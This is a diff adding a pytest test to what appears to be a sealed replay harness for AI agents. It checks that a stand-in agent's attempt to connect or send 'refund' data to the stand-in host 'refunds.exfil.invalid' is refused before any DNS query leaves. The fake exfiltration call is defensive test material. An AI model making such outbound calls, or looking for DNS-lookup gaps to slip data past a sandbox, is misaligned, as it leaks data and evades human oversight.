@@ -634,3 +634,30 @@ def test_a_forkserver_from_before_a_replay_is_not_its_and_one_from_it_does_not_o
         after.start()
         after.join(30)
         assert after.exitcode == 0 and len(payments.seen) == 1
+
+
+@pytest.mark.parametrize("how", ["connect", "connect_ex", "sendto"])
+def test_a_name_given_to_connect_is_refused_before_its_lookup_leaves(how):
+    """CPython looks a name given to ``connect`` (``connect_ex``, ``sendto``) up before it raises the event
+    the seal checks: a name that did not resolve was never refused, and its DNS query had left."""
+    import socket
+
+    def build() -> Any:
+        def agent(prompt: str) -> str:
+            kind = socket.SOCK_DGRAM if how == "sendto" else socket.SOCK_STREAM
+            with socket.socket(socket.AF_INET, kind) as sock:
+                try:
+                    if how == "sendto":
+                        sock.sendto(b"refund", ("refunds.exfil.invalid", 53))
+                    else:
+                        getattr(sock, how)(("refunds.exfil.invalid", 443))
+                except OSError as exc:
+                    return f"failed: {type(exc).__name__}"
+            return "sent"
+
+        return agent
+
+    (r,) = replay([refund_case()], build, timeout=30).results
+    port = 53 if how == "sendto" else 443
+    assert f"connect to refunds.exfil.invalid:{port}" in refused_detail(r)
+    assert r.answer == "failed: Sealed"
